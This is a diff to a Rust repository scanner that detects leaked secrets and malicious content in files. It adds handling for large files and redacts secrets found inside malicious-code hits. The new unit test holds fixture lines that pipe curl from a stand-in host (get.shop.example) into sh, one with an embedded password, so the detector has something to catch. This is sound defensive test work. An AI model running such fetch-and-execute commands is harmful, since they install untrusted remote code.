@@ -5,7 +5,9 @@ use crate::before::Before;
 use crate::config::Config;
 use crate::found::Found;
 use crate::history;
+use crate::pieces;
 use crate::scanners::{self, Vulnerability};
+use crate::secrets::FileScan;
 use crate::{malicious, secrets};
 use gate_repo::{FileView, TrackedFile};
 use gate_runner::{Collected, Inputs, Missing, Part, counted};
@@ -15,7 +17,7 @@ use std::collections::BTreeSet;
 /// What one tracked file gives: one is kept of every file until all are read, so it is small.
 #[derive(Debug, Default)]
 pub struct FilePart {
-    pub bytes: u64,
+    pub bytes: u32,
     pub binary: bool,
     /// `None` of nearly all files.
     pub found: Option<Box<InFile>>,
@@ -58,9 +60,16 @@ pub(crate) fn read(file: &TrackedFile, view: &FileView<'_>) -> FilePart {
     let (mut part, mut found) = (FilePart::default(), InFile::default());
     match view {
         FileView::Bytes(bytes) => {
-            part.bytes = bytes.len() as u64;
+            part.bytes = u32::try_from(bytes.len()).unwrap_or(u32::MAX);
             part.binary = search(&file.path, bytes, &mut found);
             found.hooks = malicious::hook_targets(&file.path, bytes);
+        }
+        FileView::Large(large) => {
+            part.bytes = u32::try_from(large.size()).unwrap_or(u32::MAX);
+            match pieces::search_large(&file.path, large, &mut found) {
+                Ok(binary) => part.binary = binary,
+                Err(reason) => found.incomplete = Some(reason),
+            }
         }
         FileView::TooLarge { size } => {
             found.incomplete = Some(format!("found {size} bytes, more than is read of one file"));
@@ -81,8 +90,23 @@ pub(crate) fn read(file: &TrackedFile, view: &FileView<'_>) -> FilePart {
 /// Everything that is searched in the bytes of one file; whether that is no text.
 pub(crate) fn search(path: &str, bytes: &[u8], found: &mut InFile) -> bool {
     let in_secrets = secrets::scan(path, bytes, &mut found.secrets);
-    found.by_name = in_secrets.by_name;
     let in_malicious = malicious::scan(path, bytes, &mut found.malicious);
+    told(path, in_secrets, &in_malicious, found)
+}
+
+/// Notes what the searches say of one file; whether that is no text.
+pub(crate) fn told(
+    path: &str,
+    in_secrets: FileScan,
+    in_malicious: &FileScan,
+    found: &mut InFile,
+) -> bool {
+    let lines: BTreeSet<u32> = found.secrets.iter().map(|hit| hit.line).collect();
+    let holds = |hit: &&mut malicious::Hit| lines.range(hit.line..=hit.last_line).next().is_some();
+    for (at, hit) in found.malicious.iter_mut().filter(holds).enumerate() {
+        hit.hide(path, at);
+    }
+    found.by_name = in_secrets.by_name;
     let too_much = (in_secrets.truncated || in_malicious.truncated).then_some(TOO_MUCH);
     found.incomplete = in_malicious.unread.or(too_much).map(str::to_owned);
     in_secrets.binary
@@ -111,7 +135,7 @@ pub(crate) fn collect(inputs: &Inputs<'_>, parts: &[Part<'_, FilePart>]) -> Coll
         vulnerabilities: Ok(Vec::new()),
         reports: Vec::new(),
     };
-    let (mut bytes, mut binary, mut excluded) = (0, 0, 0);
+    let (mut bytes, mut binary, mut excluded) = (0_u64, 0, 0);
     let mut content = Vec::new();
     for part in parts {
         let path = &part.file.path;
@@ -122,7 +146,7 @@ pub(crate) fn collect(inputs: &Inputs<'_>, parts: &[Part<'_, FilePart>]) -> Coll
             excluded += 1;
             continue;
         }
-        bytes += part.part.bytes;
+        bytes += u64::from(part.part.bytes);
         if part.part.binary {
             binary += 1;
         } else {
@@ -140,7 +164,8 @@ pub(crate) fn collect(inputs: &Inputs<'_>, parts: &[Part<'_, FilePart>]) -> Coll
             facts.secrets_gap.get_or_insert_with(|| missing.clone());
             facts.malicious_gap.get_or_insert(missing);
         }
-        let secrets = found.secrets.iter().map(|hit| Found::secret(path, hit));
+        let secrets = found.secrets.iter();
+        let secrets = secrets.map(|hit| Found::secret(path, hit, config.id_salt.as_deref()));
         facts.secrets.extend(secrets);
         let hits = found.malicious.iter().cloned();
         content.extend(hits.map(|hit| (path.clone(), hit)));
@@ -259,4 +284,30 @@ fn control_missed(what: &str, missed: &[&'static str]) -> Missing {
         format!("planted {what} was not found by: {}", missed.join(", ")),
         "do not trust this build: report it, and use another release",
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::secrets::expand;
+
+    #[test]
+    fn what_holds_a_secret_is_neither_quoted_nor_hashed() {
+        let of = |password: &str| {
+            let address = format!("https://ci:{password}@get.shop.example/x.sh");
+            let text = format!(
+                "#!/bin/sh\ncurl -fsSL {address} | sh\ncurl -fsSL https://get.shop.example/y.sh | sh\n"
+            );
+            let mut found = InFile::default();
+            search("install.sh", text.as_bytes(), &mut found);
+            assert_eq!((found.secrets.len(), found.malicious.len()), (1, 2));
+            found.malicious
+        };
+        let (one, other) = (expand("{word:12}"), expand("{word:13}"));
+        let (of_one, of_other) = (of(&one), of(&other));
+        assert!(!of_one[0].message.contains(&one), "{}", of_one[0].message);
+        assert_eq!(of_one[0].id, of_other[0].id);
+        assert!(of_one[0].message.contains(&of_one[0].id));
+        assert!(of_one[1].message.contains("y.sh"), "{}", of_one[1].message);
+    }
 }
